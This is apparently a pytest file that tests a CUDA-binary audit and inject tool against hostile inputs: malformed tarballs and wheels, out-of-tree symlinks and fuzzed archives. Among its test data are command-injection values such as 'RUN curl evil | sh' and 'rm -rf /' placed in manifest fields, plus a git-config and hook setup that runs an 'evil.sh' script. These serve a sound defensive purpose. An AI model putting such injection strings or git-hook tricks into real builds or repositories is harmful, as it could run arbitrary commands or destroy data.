"""What a hostile or unlucky user hands `audit` and `inject`: hard-linked extensions, files and
folders that cannot be read, members outside the archive, encrypted and deflate64 wheel
members, `tar -C dir .` tarballs, indexes that loop or have another shape, a 50 GB sparse
wheel, manifests with newlines.  Each is audited or refused in one line; nothing is passed
over in silence, nothing hangs, nothing ends in a traceback."""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devkit.helpers import ROOT, cli, cli_as_nobody, one_line_error
from devkit.imagetar import HardLink, docker_save
from sm121_build.core.errors import Sm121Error
from sm121_build.jobs.formats.artifacts import load

SITE = "usr/local/lib/python3.12/dist-packages/vllm"


def _binaries(result: subprocess.CompletedProcess[str]) -> dict[str, str]:
    return {b["name"]: b["verdict"] for b in json.loads(result.stdout)["binaries"]}


# -- hard links ----------------------------------------------------------------------------
def test_a_hard_linked_extension_in_an_image_tarball_is_audited(
        tmp_path: Path, matrix: dict[str, Path]) -> None:
    """`_C.abi3.so` is the second name of a file whose first name is not a .so: it must be
    audited (here: sm_90 only), and `--require native` must fail on it."""
    layer = {"opt/cache/blob.bin": matrix["sm90"].read_bytes(),
             f"{SITE}/_C.abi3.so": HardLink("opt/cache/blob.bin"),
             f"{SITE}/_moe_C.abi3.so": matrix["sm121"].read_bytes(),
             f"{SITE}/_moe_C.copy.so": HardLink(f"{SITE}/_moe_C.abi3.so")}
    image = docker_save(tmp_path / "image.tar", [layer])
    result = cli("audit", "--json", str(image))
    assert result.returncode == 0, result.stderr
    assert _binaries(result) == {f"/{SITE}/_C.abi3.so": "none", f"/{SITE}/_moe_C.abi3.so":
                                 "native", f"/{SITE}/_moe_C.copy.so": "native"}
    assert cli("audit", "--require", "native", str(image)).returncode == 1


def test_a_hard_link_to_a_member_the_layer_lacks_is_unreadable_not_dropped(
        tmp_path: Path, matrix: dict[str, Path]) -> None:
    """A hard link whose target no layer member holds: said as unreadable, and
    `--require native` cannot pass with an extension it never read."""
    layer = {f"{SITE}/_moe_C.abi3.so": matrix["sm121"].read_bytes(),
             f"{SITE}/_C.abi3.so": HardLink("opt/cache/missing.bin")}
    image = docker_save(tmp_path / "image.tar", [layer])
    result = cli("audit", "--require", "native", str(image))
    assert result.returncode == 2, result.stderr
    assert f"unreadable: /{SITE}/_C.abi3.so: hard link to /opt/cache/missing.bin" in \
        result.stderr
    assert "1 of 2 file(s) or folder(s)" in one_line_error(result)


def test_a_tarball_made_with_tar_dot_is_read(tmp_path: Path, matrix: dict[str, Path]) -> None:
    image = docker_save(tmp_path / "dot.tar", [{f"{SITE}/_C.abi3.so":
                                                matrix["sm121"].read_bytes()}], prefix="./")
    with tarfile.open(image) as tar:
        assert "./manifest.json" in tar.getnames()
    result = cli("audit", "--json", str(image))
    assert result.returncode == 0, result.stderr
    assert _binaries(result) == {f"/{SITE}/_C.abi3.so": "native"}


@pytest.mark.parametrize("name", ["notes.tar", "notes.tar.gz"])
def test_a_plain_tarball_in_a_folder_is_listed_and_the_rest_audited(
        tmp_path: Path, matrix: dict[str, Path], name: str) -> None:
    """A tarball of text files (not an image) among a folder's libraries: that one entry is
    said (not an image tarball) and every other file is still audited (exit 2: not all of
    the folder could be audited)."""
    folder = tmp_path / "in"
    folder.mkdir()
    shutil.copy(matrix["sm121"], folder / "a.so")
    shutil.copy(matrix["sm90"], folder / "z.so")
    with tarfile.open(folder / name, "w:gz" if name.endswith(".gz") else "w") as tar:
        for member, text in (("README", b"hello\n"), ("docs/notes.txt", b"notes\n")):
            info = tarfile.TarInfo(member)
            info.size = len(text)
            tar.addfile(info, io.BytesIO(text))
    result = cli("audit", "--json", str(folder), "--target", "sm_121", "--driver", "13.0")
    assert result.returncode == 2, result.stderr
    assert _binaries(result) == {"a.so": "native", "z.so": "none"}
    lines = result.stderr.strip().splitlines()
    assert f"unreadable: {name}: not a docker-save or OCI image tarball (neither " \
        "manifest.json nor index.json found)" in lines, lines
    assert lines[-1] == (f"error: 1 of 3 file(s) or folder(s) in {folder} could not be "
                         "audited (listed above)")


# -- nothing skipped in silence ------------------------------------------------------------
def _as_nobody(*args: str) -> subprocess.CompletedProcess[str]:
    """The CLI as an unprivileged user (root reads every file whatever its mode)."""
    if os.geteuid() != 0:
        return cli(*args)
    return cli_as_nobody(*args, env={**os.environ, "HOME": "/nonexistent",
                                     "XDG_CACHE_HOME": "/tmp/sm121-nobody-cache"})


def test_unreadable_files_and_folders_are_reported_and_fail(matrix: dict[str, Path]) -> None:
    # in the system's temp folder, which nobody may enter: not under pytest's own (0700;
    # under xdist one level deeper than without it)
    folder = Path(tempfile.gettempdir()) / f"sm121-hostile-{os.getpid()}"
    folder.mkdir(mode=0o755)
    try:
        shutil.copy(matrix["sm121"], folder / "a_good.so")
        shutil.copy(matrix["sm90"], folder / "b_secret.so")
        (folder / "c_locked").mkdir()
        shutil.copy(matrix["sm90"], folder / "c_locked" / "_C.abi3.so")
        for path in (folder, folder / "a_good.so"):
            path.chmod(0o755)
        (folder / "b_secret.so").chmod(0o000)
        (folder / "c_locked").chmod(0o000)
        result = _as_nobody("audit", "--json", "--require", "native", str(folder))
        assert result.returncode == 2, result.stderr
        assert _binaries(result) == {"a_good.so": "native"}
        lines = result.stderr.strip().splitlines()
        assert "unreadable: b_secret.so: not read: Permission denied" in lines
        assert "unreadable: c_locked/: folder not read: Permission denied" in lines
        assert lines[-1] == (f"error: 2 of 3 file(s) or folder(s) in {folder} could not be "
                             "audited (listed above)")
    finally:
        for path in (folder / "c_locked", folder / "b_secret.so"):
            path.chmod(0o755)
        shutil.rmtree(folder)


def _zip_with_flags(path: Path, members: dict[str, bytes], flags: dict[str, int],
                    methods: dict[str, int]) -> Path:
    """A wheel whose named members claim encryption (flag bit 0) or another compression
    method (9: deflate64), as tools that write them do; stored data otherwise."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as wheel:
        for name, data in members.items():
            wheel.writestr(name, data)
    raw = bytearray(buffer.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as wheel:
        infos = wheel.infolist()
    central = raw.rfind(b"PK\x05\x06")
    start = int.from_bytes(raw[central + 16:central + 20], "little")
    at = start
    for info in infos:
        for offset, base in ((info.header_offset, 6), (at, 8)):
            if info.filename in flags:
                raw[offset + base:offset + base + 2] = flags[info.filename].to_bytes(2, "little")
            if info.filename in methods:
                raw[offset + base + 2:offset + base + 4] = \
                    methods[info.filename].to_bytes(2, "little")
        name_len, extra_len, comment_len = (int.from_bytes(raw[at + o:at + o + 2], "little")
                                            for o in (28, 30, 32))
        at += 46 + name_len + extra_len + comment_len
    path.write_bytes(bytes(raw))
    return path


def test_wheel_members_that_cannot_be_extracted_are_reported(
        tmp_path: Path, matrix: dict[str, Path]) -> None:
    good = matrix["sm121"].read_bytes()
    wheel = _zip_with_flags(tmp_path / "x-1.0-py3-none-any.whl", {
        "vllm/_C.abi3.so": good, "vllm/_locked.so": good, "vllm/_d64.so": good},
        flags={"vllm/_locked.so": 1}, methods={"vllm/_d64.so": 9})
    result = cli("audit", "--json", str(wheel))
    assert result.returncode == 2
    assert _binaries(result) == {"vllm/_C.abi3.so": "native"}
    lines = result.stderr.strip().splitlines()
    assert any(line.startswith("unreadable: vllm/_locked.so: not extracted: ") and
               "encrypted" in line for line in lines), lines
    assert any(line.startswith("unreadable: vllm/_d64.so: not extracted: ") and
               "compression" in line for line in lines), lines
    assert "Traceback" not in result.stderr
    assert lines[-1].startswith("error: 2 of 3 file(s) or folder(s)")
    # (a member whose path leaves the archive refuses the whole wheel: test_wheel_rule.py)


# -- indexes of every shape, bounded -------------------------------------------------------
def _tarball(path: Path, members: dict[str, bytes]) -> Path:
    with tarfile.open(path, "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def test_an_index_that_names_itself_is_refused_not_followed(tmp_path: Path) -> None:
    import hashlib

    inner = json.dumps({"manifests": [{"digest": "sha256:" + "0" * 64}]}).encode()
    digest = hashlib.sha256(inner).hexdigest()
    loop = json.dumps({"manifests": [{"digest": f"sha256:{digest}"}]}).encode()
    members = {"index.json": loop, f"blobs/sha256/{digest}": loop}
    result = subprocess.run([sys.executable, "-m", "sm121_build", "audit",
                             str(_tarball(tmp_path / "loop.tar", members))],
                            capture_output=True, text=True, timeout=60, check=False)
    line = one_line_error(result, alone=True)
    assert "refer in a loop" in line


DEEP = "[" * 200_000 + "]" * 200_000
SHAPES = [
    ("manifest.json", "[1]"), ("manifest.json", '[{"Layers": "x"}]'),
    ("manifest.json", '{"Layers": []}'), ("manifest.json", DEEP),
    ("manifest.json", '[{"Layers": [1]}]'),
    ("index.json", '{"manifests": "x"}'), ("index.json", '{"manifests": [1]}'),
    ("index.json", '{"manifests": [{"no-digest": 1}]}'), ("index.json", '"text"'),
    ("index.json", DEEP), ("index.json", '{"layers": 5}'),
    ("index.json", '{"manifests": [{"digest": 5, "platform": "x"}, {"digest": 6}]}'),
]


@pytest.mark.parametrize(("name", "text"), SHAPES, ids=range(len(SHAPES)))
def test_indexes_of_another_shape_are_one_line(tmp_path: Path, name: str, text: str) -> None:
    result = cli("audit", str(_tarball(tmp_path / "odd.tar", {name: text.encode()})))
    line = one_line_error(result, alone=True)
    assert "not a docker-save or OCI image tarball" in line


def test_a_50_gb_sparse_wheel_is_refused_at_once(tmp_path: Path) -> None:
    sparse = tmp_path / "huge-1.0-py3-none-any.whl"
    with open(sparse, "wb") as handle:
        handle.truncate(50 << 30)
    result = subprocess.run([sys.executable, "-m", "sm121_build", "audit", str(sparse)],
                            capture_output=True, text=True, timeout=60, check=False)
    assert "not an ELF file, wheel, or image tarball" in one_line_error(result, alone=True)


# -- inject's manifest ---------------------------------------------------------------------
def _artifacts(folder: Path, so: Path, **changes: object) -> Path:
    from sm121_build.core.inputs import sha256_of

    folder.mkdir(exist_ok=True)
    shutil.copy(so, folder / "_C.abi3.so")
    manifest: dict[str, object] = {
        "format": 1, "base": "vllm/vllm-openai:x", "base_digest": "sha256:" + "a" * 64,
        "vllm_version": "0.33.0", "vllm_commit": "b" * 40, "arch_list": "12.1",
        "patches": "none", "package_dir": f"/{SITE}", "tool_version": "0",
        "files": {"_C.abi3.so": {"sha256": sha256_of(folder / "_C.abi3.so"), "mode": "755"}}}
    manifest.update(changes)
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return folder


def test_a_sound_artifacts_folder_loads(tmp_path: Path, matrix: dict[str, Path]) -> None:
    assert load(_artifacts(tmp_path / "a", matrix["sm121"])).provenance.arch_list == "12.1"


@pytest.mark.parametrize(("changes", "said"), [
    ({"arch_list": "12.1\nRUN curl evil | sh"}, "holds a control character"),
    ({"vllm_version": "0.33.0\nUSER root"}, "holds a control character"),
    ({"external": {"flash-attention": "abc\n"}}, "holds a control character"),
    ({"patches": ["x"]}, "patches must be a string, not list"),
    ({"arch_list": "12.1 && rm -rf /"}, "is not an arch list"),
    ({"gpu": "sm_120 LABEL x=y"}, "is not a GPU such as sm_121"),
    ({"gpu": "sm_120\nUSER root"}, "holds a control character"),
])
def test_manifest_values_never_reach_a_dockerfile(tmp_path: Path, matrix: dict[str, Path],
                                                  changes: dict[str, object], said: str) -> None:
    with pytest.raises(Sm121Error, match=said):
        load(_artifacts(tmp_path / "a", matrix["sm121"], **changes))


def test_a_non_elf_so_in_artifacts_is_refused_before_any_work(tmp_path: Path) -> None:
    fake = tmp_path / "fake.so"
    fake.write_text("not a library\n")
    folder = _artifacts(tmp_path / "a", fake)
    with pytest.raises(Sm121Error, match="not an ELF file"):
        load(folder)
    result = cli("inject", "--artifacts", str(folder), "--base", "vllm/vllm-openai:x",
                 env={"DOCKER_HOST": "unix:///nonexistent.sock"})
    assert "not an ELF file" in one_line_error(result)  # exit 2, not the engine's 4


def test_newlines_in_arch_and_names_are_refused() -> None:
    for args in (["dockerfile", "--base", "x:y", "--arch", "12.1\n12.1a"],
                 ["--base", "x:y", "--arch", "12.1\n"], ["--base", "x:y", "--tag", "a:b\n"],
                 ["--base", "x:y", "--only", "_C\n"]):
        result = cli(*args, env={"DOCKER_HOST": "unix:///nonexistent.sock"})
        one_line_error(result)


# -- generated garbage ---------------------------------------------------------------------
JSONISH = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda children: st.lists(children, max_size=3) |
    st.dictionaries(st.sampled_from(["Layers", "manifests", "layers", "digest", "platform",
                                     "os", "architecture", "Config", "format", "files",
                                     "arch_list", "vllm_version", "sha256"]),
                    children, max_size=4), max_leaves=12)


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(name=st.sampled_from(["manifest.json", "index.json"]), document=JSONISH,
       blob=JSONISH)
def test_fuzzed_image_tarballs_are_one_line_errors(tmp_path_factory: pytest.TempPathFactory,
                                                   name: str, document: object,
                                                   blob: object) -> None:
    import hashlib

    folder = tmp_path_factory.mktemp("fuzz")
    blob_bytes = json.dumps(blob).encode()
    members = {name: json.dumps(document).encode(),
               f"blobs/sha256/{hashlib.sha256(blob_bytes).hexdigest()}": blob_bytes}
    path = _tarball(folder / "fuzz.tar", members)
    from sm121_build.audit.unpack import binaries

    try:
        with binaries(str(path)):
            pass
    except Sm121Error:
        pass


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(document=JSONISH)
def test_fuzzed_artifact_manifests_are_one_line_errors(
        tmp_path_factory: pytest.TempPathFactory, matrix: dict[str, Path],
        document: object) -> None:
    folder = tmp_path_factory.mktemp("fuzz")
    shutil.copy(matrix["sm121"], folder / "_C.abi3.so")
    (folder / "manifest.json").write_text(json.dumps(document))
    with contextlib.suppress(Sm121Error):
        load(folder)


# -- sources and outputs -------------------------------------------------------------------
NEW13 = "if(${CMAKE_CUDA_COMPILER_VERSION} VERSION_GREATER_EQUAL 13.0)"
GUARD = f'{NEW13}\n  cuda_archs_loose_intersection(FP4_ARCHS "12.0f" "${{CUDA_ARCHS}}")\nendif()\n'


def _patch(source: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The patch command; its output may quote the file's own bytes."""
    return subprocess.run([sys.executable, "-m", "sm121_build", "patch", *args, "--version",
                           "0.99.0", str(source)], capture_output=True, text=True,
                          errors="replace", check=False)


def test_a_cmakelists_that_is_not_utf8_is_patched_byte_for_byte(tmp_path: Path) -> None:
    from devkit.helpers import vllm_like_tree

    source = vllm_like_tree(tmp_path, "")
    latin1 = "# Gr\xfc\xdfe aus M\xfcnchen (Latin-1)\n".encode("latin-1")
    (source / "CMakeLists.txt").write_bytes(latin1 + GUARD.encode())
    for args in (("--explain",), ()):
        result = _patch(source, *args)
        assert result.returncode == 0, result.stderr
    after = (source / "CMakeLists.txt").read_bytes()
    assert after.startswith(latin1) and b'"12.1a"' in after


def test_a_symlinked_cmakelists_stays_a_symlink(tmp_path: Path) -> None:
    from devkit.helpers import vllm_like_tree

    source = vllm_like_tree(tmp_path, None)
    (source / "real.cmake").write_text(GUARD)
    (source / "CMakeLists.txt").symlink_to("real.cmake")
    assert _patch(source).returncode == 0
    assert (source / "CMakeLists.txt").is_symlink() and "12.1a" in (
        source / "real.cmake").read_text()
    outside = tmp_path / "outside.cmake"
    outside.write_text(GUARD)
    (source / "CMakeLists.txt").unlink()
    (source / "CMakeLists.txt").symlink_to(outside)
    line = one_line_error(_patch(source))
    assert "CMakeLists.txt is a link to" in line and "leads out of the source tree" in line
    assert outside.read_text() == GUARD


@pytest.mark.parametrize(("env", "where"), [
    ({"XDG_CACHE_HOME": "relative/cache", "HOME": "/home/u"}, "/home/u/.cache/sm121-build"),
    ({"XDG_CACHE_HOME": "", "HOME": "/home/u"}, "/home/u/.cache/sm121-build"),
    ({"XDG_CACHE_HOME": "/x/c", "HOME": ""}, "/x/c/sm121-build"),
])
def test_the_cache_is_never_relative_or_at_the_root(monkeypatch: pytest.MonkeyPatch,
                                                    env: dict[str, str], where: str) -> None:
    from sm121_build.core.paths import cache_dir

    for key, value in env.items():
        monkeypatch.setenv(key, value)
    assert str(cache_dir()) == where


def test_no_home_at_all_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    import pwd

    from sm121_build.core import paths as facts

    monkeypatch.setenv("HOME", "")
    monkeypatch.setenv("XDG_CACHE_HOME", "")
    assert facts.cache_dir() == Path(pwd.getpwuid(os.getuid()).pw_dir) / ".cache/sm121-build"

    def no_entry(uid: int) -> object:
        raise KeyError(uid)

    monkeypatch.setattr(facts.pwd, "getpwuid", no_entry)  # a uid with no passwd entry
    with pytest.raises(Sm121Error, match="no place for the cache: set XDG_CACHE_HOME"):
        facts.cache_dir()
    setpriv = shutil.which("setpriv")
    if os.geteuid() == 0 and setpriv:  # uid 4242 has no passwd entry
        env = {k: v for k, v in os.environ.items() if k not in ("HOME", "XDG_CACHE_HOME")}
        result = subprocess.run([setpriv, "--reuid=4242", "--regid=4242", "--clear-groups",
                                 sys.executable, "-m", "sm121_build", "inject", "--artifacts",
                                 "/", "--base", "x:y"], capture_output=True, text=True,
                                check=False, env=env, cwd="/")
        assert "no place for the cache" in one_line_error(result)


@pytest.mark.parametrize("kind", ["symlink", "fifo"])
def test_outputs_must_be_regular_files(tmp_path: Path, kind: str) -> None:
    out = tmp_path / "report.json"
    if kind == "symlink":
        (tmp_path / "elsewhere.json").write_text("{}")
        out.symlink_to(tmp_path / "elsewhere.json")
    else:
        os.mkfifo(out)
    for option in ("--report", "--summary-md"):
        result = subprocess.run([sys.executable, "-m", "sm121_build", "--base", "x:y", option,
                                 str(out)], capture_output=True, text=True, timeout=60,
                                check=False, env={**os.environ,
                                                  "DOCKER_HOST": "unix:///nonexistent.sock"})
        line = one_line_error(result)
        assert f"is a {'symlink' if kind == 'symlink' else 'FIFO'}; name a regular file" in line
    audited = tmp_path / "audited"  # a folder of its own: the summary is never inside it
    audited.mkdir()
    audit = subprocess.run([sys.executable, "-m", "sm121_build", "audit", "--summary-md",
                            str(out), str(audited)], capture_output=True, text=True,
                           timeout=60, check=False)
    assert "name a regular file" in one_line_error(audit)


def test_summary_of_a_target_whose_name_is_not_utf8(tmp_path: Path,
                                                    matrix: dict[str, Path]) -> None:
    folder = tmp_path / os.fsdecode(b"caf\xe9")
    folder.mkdir()
    shutil.copy(matrix["sm121"], folder / "_C.so")
    summary = tmp_path / "summary.md"
    result = cli("audit", "--summary-md", str(summary), str(folder))
    assert result.returncode == 0, result.stderr
    assert "caf\\\\xe9" in summary.read_text()  # the byte, escaped, its backslash Markdown's


def test_a_second_sigterm_does_not_cut_the_cleanup_short(tmp_path: Path,
                                                         matrix: dict[str, Path]) -> None:
    """A CI runner that cancels twice: the run still removes its temporary files, exit 130."""
    import signal
    import time

    wheel = tmp_path / "many-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for i in range(200):
            archive.write(matrix["plain"], f"pkg/_k{i}.so")
    temp = tmp_path / "tmp"
    temp.mkdir()
    process = subprocess.Popen([sys.executable, "-m", "sm121_build", "audit", str(wheel)],
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                               env={**os.environ, "TMPDIR": str(temp)})
    for _ in range(200):  # until the wheel is being unpacked
        if any(temp.iterdir()):
            break
        time.sleep(0.02)
    process.send_signal(signal.SIGTERM)
    time.sleep(0.01)
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 130, err
    assert "Traceback" not in err and list(temp.iterdir()) == []


@pytest.mark.parametrize(("extra", "said"), [
    (["--base", "x:y"], "No such option '--base'"),
    (["--tag", "x:y", "--pull"], "No such option '--tag'"),
    (["--cutlass", "{notes}"], "neither a CUTLASS checkout nor the nvidia-cutlass wheel"),
])
def test_local_refuses_what_it_would_ignore(tmp_path: Path, extra: list[str],
                                            said: str) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("not a wheel\n")
    (tmp_path / "src").mkdir()
    args = ["local", "--source", str(tmp_path / "src"), "--out", str(tmp_path / "o"),
            *[a.format(notes=notes) for a in extra]]
    assert said in one_line_error(cli(*args))
    assert not (tmp_path / "o").exists()


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.binary(max_size=2048), suffix=st.sampled_from([".whl", ".tar", ".so"]),
       head=st.sampled_from([b"", b"PK\x03\x04", b"\x1f\x8b", b"\x7fELF", b"BZh",
                             b"\x28\xb5\x2f\xfd"]))
def test_fuzzed_archives_are_one_line_errors(tmp_path_factory: pytest.TempPathFactory,
                                             data: bytes, suffix: str, head: bytes) -> None:
    """Bytes that start like a wheel, a compressed tarball or an ELF file and then are not."""
    from sm121_build.audit.unpack import binaries

    path = tmp_path_factory.mktemp("fuzz") / f"x{'-1.0-py3-none-any' * (suffix == '.whl')}{suffix}"
    path.write_bytes(head + data)
    with contextlib.suppress(Sm121Error), binaries(str(path)):
        pass


# -- links that leave the source tree --------------------------------------------------------
def _patch_cli(source: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return cli("patch", "--version", "0.19.1", str(source), *extra)


@pytest.mark.parametrize("linked", ["cmake", "cmake/external_projects"])
def test_a_folder_linked_out_of_the_tree_is_refused_and_nothing_outside_is_written(
        tmp_path: Path, linked: str) -> None:
    """`cmake/` linked out: a patch would rewrite the files it names; `external_projects/`
    linked out: its guard would silently stay unpatched.  Both are one line naming the link,
    for `patch`, `patch --explain` and `audit --source`, and the outside files keep their
    bytes."""
    source = Path(shutil.copytree(ROOT / "tests" / "data" / "vllm_like", tmp_path / "src"))
    outside = tmp_path / "elsewhere"
    shutil.move(source / linked, outside)
    (source / linked).symlink_to(outside)
    before = {p: p.read_bytes() for p in outside.rglob("*") if p.is_file()}
    expected = (f"error: {source}: {linked} is a link to {outside}, which leads out of the "
                "source tree: refused (replace the link by the files it names)")
    for result in (_patch_cli(source), _patch_cli(source, "--explain"),
                   cli("audit", str(ROOT / "tests" / "data"), "--source", str(source))):
        assert one_line_error(result, alone=True) == expected
    assert {p: p.read_bytes() for p in outside.rglob("*") if p.is_file()} == before


def test_links_inside_the_tree_are_followed_and_kept(tmp_path: Path) -> None:
    source = Path(shutil.copytree(ROOT / "tests" / "data" / "vllm_like", tmp_path / "src"))
    shutil.move(source / "cmake", source / "cmake-real")
    (source / "cmake").symlink_to("cmake-real")
    (source / "dangling").symlink_to("nowhere")
    assert _patch_cli(source).returncode == 0
    assert (source / "cmake").is_symlink()


def test_a_trees_own_git_config_runs_nothing(tmp_path: Path) -> None:
    """A tree handed over with its `.git/` may configure git to run programs (the file-system
    monitor, an external diff, hooks): hashing its changes runs none of them."""
    from sm121_build.source.git_pin import GitRef, check_git_tree

    source = Path(shutil.copytree(ROOT / "tests" / "data" / "vllm_like", tmp_path / "src"))
    marker = tmp_path / "ran"
    script = tmp_path / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "init", "-q"], cwd=source, check=True)
    subprocess.run([*git, "add", "-A"], cwd=source, check=True)
    subprocess.run([*git, "commit", "-qm", "x"], cwd=source, check=True)
    for key in ("core.fsmonitor", "diff.external"):
        subprocess.run(["git", "config", key, str(script)], cwd=source, check=True)
    (source / ".git" / "hooks" / "post-checkout").write_text(script.read_text())
    (source / ".git" / "hooks" / "post-checkout").chmod(0o755)
    (source / "CMakeLists.txt").write_text("# changed\n")
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=source, capture_output=True,
                          text=True, check=True).stdout.strip()
    checkout = check_git_tree(source, GitRef("commit", head), False, "x", "--source")
    assert checkout.changes and not marker.exists()
    subprocess.run(["git", "diff", "HEAD"], cwd=source, capture_output=True, check=False)
    assert marker.exists()  # plain git does run it: the test can fail


def test_a_folder_nested_a_thousand_deep_is_walked_without_a_traceback(
        tmp_path: Path, matrix: dict[str, Path]) -> None:
    """Python 3.11's os.walk recurses: a tree 1000 folders deep was a RecursionError in
    `audit`, `aot` and `patch` (red team, issue #54); the one walk (`core/inputs.walk`) is
    iterative."""
    deep = tmp_path / "deep"
    at = deep
    at.mkdir()
    for _ in range(1000):  # one level at a time (Path.mkdir's parents= recurses too)
        at = at / "d"
        at.mkdir()
    (at / "k.so").write_bytes(matrix["sm121"].read_bytes())
    try:
        audited = cli("audit", str(deep))
        assert audited.returncode == 0, audited.stderr[-500:]
        assert "Traceback" not in audited.stderr and "k.so" in audited.stdout
        aoted = cli("aot", str(deep), "--out", str(tmp_path / "out"), "--target", "sm_121")
        assert "Traceback" not in aoted.stderr and aoted.returncode in (0, 2), \
            aoted.stderr[-500:]
    finally:  # bottom-up, one level at a time (shutil.rmtree recurses as well)
        levels = [at, *list(at.parents)[:1000]]
        (at / "k.so").unlink()
        for level in levels:
            level.rmdir()
